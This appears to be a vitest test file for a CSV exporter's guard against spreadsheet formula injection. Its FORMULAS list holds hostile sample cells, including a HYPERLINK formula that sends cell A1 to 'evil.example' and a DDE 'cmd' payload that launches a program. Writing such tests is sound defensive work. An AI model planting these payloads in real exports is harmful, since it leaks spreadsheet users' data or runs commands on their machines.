import { describe, expect, it } from 'vitest';
import { formatCsv, formatCsvField, parseCsv } from './csv.ts';
import { neutraliseFormulaCell, restoreFormulaCell } from './formula-cells.ts';

/** Text that Excel, WPS or LibreOffice would run as a formula when it opens a CSV file. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?x="&A1,"大生旧址")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-',
  '\t=1+1',
  '\r=1+1',
];

/** Text a spreadsheet shows as it is. */
const PLAIN = ['张謇', '大生纱厂=一厂', 'a-b', "'", "'quoted", "''", '-5', '+3.25', '-1.5e3', '', ' ', '[1]'];

/** Values that already look like a guarded cell: they must survive the guard too. */
const LOOK_GUARDED = ["'=1+1", "''=1+1", "'-1+1", "'@x", "'-5", "''\t=x"];

describe('formula cells in CSV exports', () => {
  it.each(FORMULAS)('puts a quote in front of %j, so a spreadsheet shows it as text', (value) => {
    expect(neutraliseFormulaCell(value)).toBe(`'${value}`);
  });

  it.each(PLAIN)('leaves %j as it is (numbers are data, not formulas)', (value) => {
    expect(neutraliseFormulaCell(value)).toBe(value);
  });

  it('adds one more quote to a value that already starts with quotes before a formula character', () => {
    expect(neutraliseFormulaCell("'=1+1")).toBe("''=1+1");
    expect(neutraliseFormulaCell("'-5")).toBe("'-5");
  });

  it.each([...FORMULAS, ...PLAIN, ...LOOK_GUARDED])('reads %j back exactly', (value) => {
    expect(restoreFormulaCell(neutraliseFormulaCell(value))).toBe(value);
  });

  it('formatCsv writes no cell a spreadsheet would run, and parseCsv gives the rows back exactly', () => {
    const rows = [['id', 'name'], ...[...FORMULAS, ...PLAIN, ...LOOK_GUARDED].map((value, i) => [`n${i}`, value])];
    const text = formatCsv(rows, { byteOrderMark: false });
    // The cells as a spreadsheet sees them: split on commas and line ends, quotes taken off.
    const cells = text.split(/,|\r\n/).map((cell) => cell.replace(/^"|"$/g, ''));
    const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?[\d.]+(e\d+)?$/i.test(cell));
    expect(live).toEqual([]);
    expect(parseCsv(text).records.map((record) => record.fields)).toEqual(rows);
    expect(formatCsvField('=1+1,2')).toBe(`"'=1+1,2"`);
  });
});
